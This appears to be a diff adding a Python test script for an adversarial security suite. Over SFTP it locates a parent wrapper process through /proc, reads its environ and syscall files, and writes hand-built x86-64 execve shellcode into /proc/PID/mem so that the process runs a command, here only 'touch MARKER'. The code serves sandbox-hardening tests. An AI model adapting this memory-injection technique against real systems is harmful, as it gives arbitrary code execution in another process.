@@ -1,0 +1,89 @@
+#!/usr/bin/python3
+"""The /proc attack a partner can make with nothing but SFTP (paramiko), for the adversarial suite.
+
+    sftp_proc_attack.py PORT USER KEYFILE MARKER wrapper
+        Reads /proc/self/stat to find sftp-server's parent (the wrapper), reads its environ and
+        syscall, and writes x86-64 code into its memory at the address where it will resume: when
+        the session ends, the wrapper would run `touch MARKER`.
+    sftp_proc_attack.py PORT USER KEYFILE MARKER pid PID
+        The same against process PID (a hook of the partner's other session).
+
+Prints one JSON object per step: {"step": ..., "ok": true|false, "detail": ...}. The attack worked
+if MARKER exists afterwards.
+"""
+import json
+import struct
+import sys
+
+import paramiko
+
+
+def shellcode(command: bytes) -> bytes:
+    # lea rdi,[rip+sh]; lea rcx,[rip+dash_c]; lea rdx,[rip+cmd]; xor eax,eax; push rax; push rdx;
+    # push rcx; push rdi; mov rsi,rsp; xor edx,edx; mov eax,59 (execve); syscall
+    code = (
+        b"\x48\x8d\x3d" + struct.pack("<i", 39 - 7)
+        + b"\x48\x8d\x0d" + struct.pack("<i", 47 - 14)
+        + b"\x48\x8d\x15" + struct.pack("<i", 50 - 21)
+        + b"\x31\xc0\x50\x52\x51\x57\x48\x89\xe6\x31\xd2\xb8\x3b\x00\x00\x00\x0f\x05"
+    )
+    assert len(code) == 39
+    return code + b"/bin/sh\x00" + b"-c\x00" + command + b"\x00"
+
+
+def step(name, fn):
+    try:
+        detail = fn()
+        print(json.dumps({"step": name, "ok": True, "detail": str(detail)[:300]}), flush=True)
+        return detail
+    except Exception as e:  # every failure is an answer here
+        print(json.dumps({"step": name, "ok": False, "detail": repr(e)[:300]}), flush=True)
+        return None
+
+
+def read(sftp, path):
+    with sftp.open(path, "rb") as f:
+        return f.read(65536)
+
+
+def attack_pid(sftp, pid, marker):
+    step(f"read /proc/{pid}/environ", lambda: len(read(sftp, f"/proc/{pid}/environ")))
+    syscall = step(f"read /proc/{pid}/syscall", lambda: read(sftp, f"/proc/{pid}/syscall").decode())
+    pc = None
+    if syscall:
+        fields = syscall.split()
+        if len(fields) >= 9:
+            pc = int(fields[-1], 16)
+    def write_mem():
+        if pc is None:
+            raise RuntimeError("no resume address")
+        with sftp.open(f"/proc/{pid}/mem", "r+b") as f:
+            f.seek(pc)
+            f.write(shellcode(b"touch " + marker.encode()))
+        return hex(pc)
+    step(f"write /proc/{pid}/mem", write_mem)
+
+
+def main():
+    port, user, keyfile, marker, mode = sys.argv[1:6]
+    client = paramiko.SSHClient()
+    client.set_missing_host_key_policy(paramiko.AutoAddPolicy())
+    client.connect("127.0.0.1", port=int(port), username=user, key_filename=keyfile,
+                   look_for_keys=False, allow_agent=False, timeout=20)
+    sftp = client.open_sftp()
+    step("list /proc", lambda: len(sftp.listdir("/proc")))
+    if mode == "wrapper":
+        stat = step("read /proc/self/stat", lambda: read(sftp, "/proc/self/stat").decode())
+        if stat:
+            ppid = int(stat.rsplit(")", 1)[1].split()[1])
+            attack_pid(sftp, ppid, marker)
+        else:
+            print(json.dumps({"step": "find the wrapper", "ok": False, "detail": "no /proc/self"}))
+    else:
+        attack_pid(sftp, int(sys.argv[6]), marker)
+    sftp.close()
+    client.close()
+
+
+if __name__ == "__main__":
+    main()
